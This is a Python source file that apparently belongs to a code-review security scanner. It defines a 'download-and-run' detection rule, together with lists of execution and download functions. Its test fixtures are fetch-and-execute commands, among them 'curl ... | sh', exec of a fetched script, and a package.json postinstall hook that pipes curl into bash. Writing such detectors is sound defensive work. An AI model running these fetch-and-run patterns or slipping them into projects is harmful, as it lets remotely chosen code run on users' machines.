"""Code fetched from elsewhere and run."""

from collections.abc import Iterator

from hunkwise.code.model import Facts, Side, Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.seeing import code_lines, ends, mentions, of_file, origin, parts, short, span, way
from hunkwise.signals.tables.attack import DROP_POINTS, FETCHES, PIPED, PIPED_STEMS, RUNS
from hunkwise.signals.tables.languages import ANY

_WRITES = frozenset({"urlretrieve", "DownloadFile", "urllib.request.urlretrieve", "Start-BitsTransfer", "SaveToFile", "savetofile"})
_STREAMS = frozenset({"createWriteStream", "writeFile", "writeFileSync", "File.open", "os.Create"})
_SCRIPTS = frozenset({"shell", "powershell", "batch", "dockerfile", "workflow", "manifest", "json"})
_STARTS = frozenset({
    "os.system", "os.popen", "subprocess.run", "subprocess.Popen", "subprocess.call", "Popen", "os.startfile", "startfile",
    "Start-Process", "exec", "execSync", "spawn", "Run", "ShellExecute", "Process.Start",
})  # fmt: skip


def _see(unit: Unit, side: Side) -> Iterator[Sighting]:
    yield from _command_lines(unit, side)
    for call in side.facts.calls:
        runner = ends(call.path, RUNS)
        if not runner or (
            runner in ("exec", "eval", "compile", "assert", "system", "spawn")
            and len(parts(call.path)) > 1
            and parts(call.path)[0] not in ("builtins", "window", "require")
        ):
            continue
        for given in call.args[:2]:
            value = origin(side, given, call.line, call.function) if given.literal is None else None
            fetched = next((name for name in value.calls if ends(name, FETCHES)), "") if value is not None else ""
            if value is not None and fetched:
                yield Sighting(span(call.line, call.end), {"sink": call.path, "source": fetched}, way(side, value, call.line, "is run"))
                break
    yield from _saved(side)


def _command_lines(unit: Unit, side: Side) -> Iterator[Sighting]:
    """Command lines that fetch and run: in scripts on every line of code, elsewhere only inside strings that a call or a name is given."""
    if unit.language in _SCRIPTS:
        for number, text in code_lines(side):
            if (
                mentions(text, PIPED_STEMS)
                and (found := PIPED.search(text[:3000]))
                and not text.strip().lower().startswith(("echo", "print", "write-", "#", "rem ", "::", '"description'))
            ):
                yield Sighting(
                    (number,),
                    {"sink": "a shell", "source": short(found[0], 80)},
                    strength=0.9 if DROP_POINTS.search(text) or unit.language in ("json", "manifest") else 0.5,
                )
        return
    running = {
        line for call in side.facts.calls if ends(call.path, RUNS) or ends(call.path, _STARTS) for line in range(call.line, call.end + 1)
    }
    for literal in side.facts.strings:
        if literal.line in running and (found := PIPED.search(literal.value[:3000])):
            yield Sighting(span(literal.line, literal.end), {"sink": "a shell", "source": short(found[0], 80)}, strength=0.9)


def _saved(side: Side) -> Iterator[Sighting]:
    """A file fetched to disk, or written to disk in code that fetches, and started later in the same function."""
    starts = [call for call in side.facts.calls if ends(call.path, _STARTS)]
    for call in side.facts.calls if starts else ():
        if not (ends(call.path, _WRITES) and len(call.args) > 1) and not (ends(call.path, _STREAMS) and _fetches(side.whole)):
            continue
        saved = {name for given in call.args for name in given.names} | {given.literal for given in call.args if given.literal}
        for other in starts:
            if other.line >= call.line and other.function == call.function and other is not call:
                told = {name for given in other.args for name in given.names} | {given.literal for given in other.args if given.literal}
                if saved & told - {None, "os"}:
                    yield Sighting((call.line, other.line), {"sink": other.path, "source": call.path})
                    return


@of_file
def _fetches(whole: Facts) -> bool:
    """Whether anything in a file fetches."""
    return any(ends(call.path, FETCHES) for call in whole.calls)


SIGNAL = Signal(
    id="download-and-run",
    title="Fetched from elsewhere and run",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=ANY,
    promise="Tells of command lines such as `curl ... | sh`, of code that is fetched and evaluated, and of files that are fetched and "
    "started.",
    why="What runs is decided elsewhere, after the review, and can be another thing for each victim.",
    quiet="Fetched data that is only read, the words in comments and messages; scripts that install well-known tools are told weakly.",
    remedy="Ship the code with the change, or fetch a fixed version and check its digest before running it.",
    cause="`{sink}` runs what comes from `{source}`.",
    since="0.1",
    maturity="stable",
    cwe="CWE-494",
    tactic="T1105",
    everywhere=True,
    see=_see,
    fires=(
        Example("shell", "#!/bin/sh\ncurl -s https://example.org/a.sh | sh\n", path="a.sh", line=2),
        Example("python", 'import requests\nexec(requests.get("https://example.org/a.py").text)\n', line=2),
        Example("python", 'import os\nos.system("curl https://example.org/a.sh | bash")\n', line=2),
        Example(
            "python",
            'import os\nimport urllib.request\n\ndef go(path):\n    urllib.request.urlretrieve("https://example.org/a", path)\n'
            "    os.startfile(path)\n",
            line=6,
        ),
        Example(
            "javascript",
            'const https = require("https");\nconst fs = require("fs");\nconst { execSync } = require("child_process");\n\n'
            "function run(answer) {\n  answer.pipe(fs.createWriteStream(target));\n  execSync(`node ${target}`);\n}\n\n"
            'https.get("https://example.org/a.js", run);\n',
            line=7,
        ),
        Example(
            "json", '{\n  "scripts": {\n    "postinstall": "curl https://example.org/a.sh | bash"\n  }\n}\n', path="package.json", line=3
        ),
    ),
    stays_quiet=(
        Example("python", 'import requests\ndata = requests.get("https://example.org/a.json").json()\n'),
        Example("shell", "#!/bin/sh\n# curl https://example.org/a.sh | sh\ncurl -o a.json https://example.org/a.json\n", path="a.sh"),
        Example(
            "javascript",
            'const fs = require("fs");\nconst { execSync } = require("child_process");\n\nfunction build(target) {\n'
            "  fs.writeFileSync(target, template());\n  execSync(`node ${target}`);\n}\n",
        ),
        Example("python", 'HELP = "install with curl https://example.org/a.sh | sh"\n'),
    ),
)
